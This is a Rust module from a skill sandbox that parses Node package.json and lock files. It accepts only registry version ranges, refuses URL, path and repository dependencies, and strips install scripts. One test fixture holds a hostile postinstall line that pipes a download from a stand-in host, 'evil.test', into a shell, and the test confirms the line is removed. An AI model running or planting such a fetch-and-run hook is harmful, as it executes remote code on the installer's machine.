//! The Node dependencies a skill declares: the `dependencies` of its `package.json` (which
//! may also be its skillbox manifest, whose other fields do not matter here) and its
//! `package-lock.json` when it has one. docs/sandbox.md, "Dependencies".
//!
//! A skill that ships its own `node_modules/` brought what it needs and gets no build. A
//! dependency given by URL, path or repository (`file:`, `git+https:`, `user/repo`) is
//! refused: the operator's registry is the build's only network.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// The manifest and lock files read.
pub const PACKAGE_JSON: &str = "package.json";
/// npm's lock, installed exactly (`npm ci`) when present.
pub const PACKAGE_LOCK: &str = "package-lock.json";

/// A skill's Node dependencies, as its build installs them.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct NodeDeps {
    /// `dependencies`: each package and the version range asked for.
    pub dependencies: BTreeMap<String, String>,
    /// The `package.json` the build installs: the skill's cut to its name, version and
    /// dependency fields, so that no script of the skill's own package runs.
    #[serde(skip)]
    pub manifest: String,
    /// The skill's `package-lock.json`, when it has one.
    #[serde(skip)]
    pub lock: Option<String>,
    /// The SHA-256 of that lock.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub lock_sha256: Option<String>,
    /// Whether the packages' install scripts run (`[grants.<skill>]
    /// allow_install_scripts`); set by the core.
    #[serde(default)]
    pub allow_scripts: bool,
    /// The registry (`[deps] npm_registry`); set by the core.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub registry: String,
}

impl NodeDeps {
    /// What names the environment: the registry, the scripts policy, the manifest and the
    /// lock.
    pub fn digest_text(&self) -> String {
        format!(
            "{}\n{}\n{}\n--lock--\n{}\n",
            self.registry,
            self.allow_scripts,
            self.manifest,
            self.lock.as_deref().unwrap_or_default()
        )
    }
}

/// Reads the Node dependencies of a skill folder (see the module docs), and what was
/// refused in its files (`None`: nothing to build).
pub fn read_node_deps(dir: &Path) -> (Option<NodeDeps>, Vec<String>) {
    let mut problems = Vec::new();
    let Some(text) = read_plain(dir, PACKAGE_JSON, &mut problems) else {
        return (None, problems);
    };
    if dir.join("node_modules").is_dir() {
        return (None, problems);
    }
    let parsed: Map<String, Value> = match serde_json::from_str(&text) {
        Ok(Value::Object(o)) => o,
        Ok(_) => return (None, vec![format!("{PACKAGE_JSON}: not a JSON object")]),
        Err(e) => return (None, vec![format!("{PACKAGE_JSON}: not JSON: {e}")]),
    };
    let dependencies = taken_dependencies(&parsed, &mut problems);
    if dependencies.is_empty() {
        return (None, problems);
    }
    let lock = read_plain(dir, PACKAGE_LOCK, &mut problems);
    let manifest = build_manifest(&parsed, &dependencies, lock.is_some());
    let lock_sha256 = lock.as_ref().map(|l| {
        let d = ring::digest::digest(&ring::digest::SHA256, l.as_bytes());
        d.as_ref().iter().map(|b| format!("{b:02x}")).collect()
    });
    let deps = NodeDeps {
        dependencies,
        manifest,
        lock,
        lock_sha256,
        allow_scripts: false,
        registry: String::new(),
    };
    (Some(deps), problems)
}

/// The text of `dir/name`, when it is a plain file (a symlink could point outside the
/// skill: refused, with a problem).
fn read_plain(dir: &Path, name: &str, problems: &mut Vec<String>) -> Option<String> {
    let path = dir.join(name);
    let meta = std::fs::symlink_metadata(&path).ok()?;
    if !meta.is_file() {
        problems.push(format!(
            "{name}: not a plain file (a symlink is not followed)"
        ));
        return None;
    }
    match std::fs::read_to_string(&path) {
        Ok(text) => Some(text),
        Err(e) => {
            problems.push(format!("{name}: {e}"));
            None
        }
    }
}

/// The `dependencies` the build installs; the others named in `problems`.
fn taken_dependencies(
    parsed: &Map<String, Value>,
    problems: &mut Vec<String>,
) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let Some(listed) = parsed.get("dependencies") else {
        return out;
    };
    let Some(listed) = listed.as_object() else {
        problems.push(format!("{PACKAGE_JSON}: dependencies is not an object"));
        return out;
    };
    for (name, spec) in listed {
        match spec.as_str() {
            Some(spec) => match spec_problem(spec) {
                None => {
                    out.insert(name.clone(), spec.to_string());
                }
                Some(why) => problems.push(format!("{PACKAGE_JSON}: {name}: {spec:?}: {why}")),
            },
            None => problems.push(format!("{PACKAGE_JSON}: {name}: not a version string")),
        }
    }
    out
}

/// Why `spec` is not a dependency skillbox installs (`None`: it is one).
pub fn spec_problem(spec: &str) -> Option<&'static str> {
    if spec.contains(':') || spec.contains('/') || spec.contains('\\') {
        return Some(
            "a URL, path or repository dependency would reach past the registry; name a \
             version range instead",
        );
    }
    None
}

/// The `package.json` a build installs (see [`NodeDeps::manifest`]). With a lock, npm
/// checks that the two agree, so the other dependency fields come along (their
/// development dependencies are not installed).
fn build_manifest(
    parsed: &Map<String, Value>,
    dependencies: &BTreeMap<String, String>,
    with_lock: bool,
) -> String {
    let mut out = Map::new();
    let name = parsed.get("name").and_then(Value::as_str);
    out.insert("name".into(), Value::from(name.unwrap_or("skill")));
    let version = parsed.get("version").and_then(Value::as_str);
    out.insert("version".into(), Value::from(version.unwrap_or("0.0.0")));
    out.insert("private".into(), Value::Bool(true));
    let deps: Map<String, Value> = (dependencies.iter())
        .map(|(k, v)| (k.clone(), Value::from(v.as_str())))
        .collect();
    out.insert("dependencies".into(), Value::Object(deps));
    if with_lock {
        for key in [
            "devDependencies",
            "optionalDependencies",
            "peerDependencies",
            "overrides",
        ] {
            if let Some(v) = parsed.get(key) {
                out.insert(key.into(), v.clone());
            }
        }
    }
    Value::Object(out).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn package_json_dependencies_are_taken_without_scripts_or_urls() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(PACKAGE_JSON),
            r#"{"name": "pdfy", "version": "1.2.0", "owliabot": {"tools": []},
                "scripts": {"postinstall": "curl evil.test | sh"},
                "dependencies": {"left-pad": "^1.3.0", "evil": "git+https://evil.test/x.git",
                                 "local": "file:../x", "gh": "user/repo"}}"#,
        )
        .unwrap();
        let (node, problems) = read_node_deps(dir.path());
        let node = node.unwrap();
        assert_eq!(node.dependencies.len(), 1, "{:?}", node.dependencies);
        assert_eq!(problems.len(), 3, "{problems:?}");
        assert!(
            problems[0].contains("reach past the registry"),
            "{problems:?}"
        );
        assert!(!node.manifest.contains("postinstall"), "{}", node.manifest);
        assert!(
            node.manifest.contains("\"name\":\"pdfy\""),
            "{}",
            node.manifest
        );
        assert_eq!(node.lock, None);

        std::fs::write(dir.path().join(PACKAGE_LOCK), "{}").unwrap();
        let node = read_node_deps(dir.path()).0.unwrap();
        assert_eq!(node.lock.as_deref(), Some("{}"));
        assert_eq!(node.lock_sha256.as_ref().map(String::len), Some(64));
    }

    #[test]
    fn no_build_without_dependencies_or_with_node_modules_shipped() {
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(read_node_deps(dir.path()), (None, Vec::new()));
        std::fs::write(dir.path().join(PACKAGE_JSON), r#"{"dependencies": {}}"#).unwrap();
        assert_eq!(read_node_deps(dir.path()).0, None);
        std::fs::write(
            dir.path().join(PACKAGE_JSON),
            r#"{"dependencies": {"a": "1.0.0"}}"#,
        )
        .unwrap();
        assert!(read_node_deps(dir.path()).0.is_some());
        std::fs::create_dir(dir.path().join("node_modules")).unwrap();
        assert_eq!(read_node_deps(dir.path()).0, None);
    }
}
